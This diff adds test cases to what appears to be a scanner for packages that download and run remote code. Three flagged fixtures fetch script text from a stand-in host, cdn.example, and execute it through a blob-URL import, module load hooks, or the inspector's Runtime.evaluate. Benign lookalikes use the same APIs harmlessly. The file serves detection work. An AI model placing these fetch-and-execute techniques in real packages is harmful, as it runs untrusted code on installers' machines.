@@ -294,8 +294,45 @@ export default defineCases({
         'README.md': '# a\n<!--console.log(1)-->',
       },
     },
+    {
+      name: 'downloaded, under the address of a blob',
+      manifest: { type: 'module' },
+      code: "const res = await fetch('https://cdn.example/p.mjs');\nconst blob = new Blob([await res.text()], { type: 'text/javascript' });\nawait import(URL.createObjectURL(blob));",
+    },
+    {
+      name: 'downloaded, in the place of a module',
+      manifest: { type: 'module' },
+      code: "import { registerHooks } from 'node:module';\nconst source = await (await fetch('https://cdn.example/h.js')).text();\nregisterHooks({ load: (url, context, next) => (url.endsWith('?x') ? { format: 'module', source, shortCircuit: true } : next(url, context)) });",
+    },
+    {
+      name: 'downloaded, and told the debugger',
+      manifest: { type: 'module' },
+      code: "import { Session } from 'node:inspector/promises';\nconst session = new Session();\nsession.connect();\nawait session.post('Runtime.evaluate', { expression: await (await fetch('https://cdn.example/x')).text() });",
+    },
   ],
   ok: [
+    {
+      name: 'a reader of files that is asked for data, and by others for code',
+      files: {
+        'index.js':
+          "const fs = require('fs'); const b = {};\nb.read = (name, raw) => { const d = fs.readFileSync(name); return raw ? d : d.toString(); };\nb.bytes = (name) => b.read(name, true);\nb.load = (name) => { eval.call(null, b.read(name)); };\nexports.memory = b.bytes(__dirname + '/memory.dat'); exports.b = b;",
+        'memory.dat': 'abc',
+      },
+    },
+    {
+      name: 'a loader of a language of its own',
+      manifest: { type: 'module' },
+      code: "import { registerHooks } from 'node:module';\nimport { readFileSync } from 'node:fs';\nimport { transform } from './transform.js';\nregisterHooks({ load: (url, context, next) => (url.endsWith('.ext') ? { format: 'module', source: transform(readFileSync(new URL(url), 'utf8')), shortCircuit: true } : next(url, context)) });",
+    },
+    {
+      name: 'a profile of the engine',
+      manifest: { type: 'module' },
+      code: "import { Session } from 'node:inspector/promises';\nconst session = new Session();\nsession.connect();\nawait session.post('Profiler.enable');\nawait session.post('Runtime.evaluate', { expression: 'process.memoryUsage()' });",
+    },
+    {
+      name: 'a picture that is shown',
+      code: "fetch('https://cdn.example/logo.png').then((r) => r.blob()).then((blob) => { document.querySelector('img').src = URL.createObjectURL(blob); });",
+    },
     {
       name: 'handlers of a page, run in its window, which knows the version of the package',
       files: {
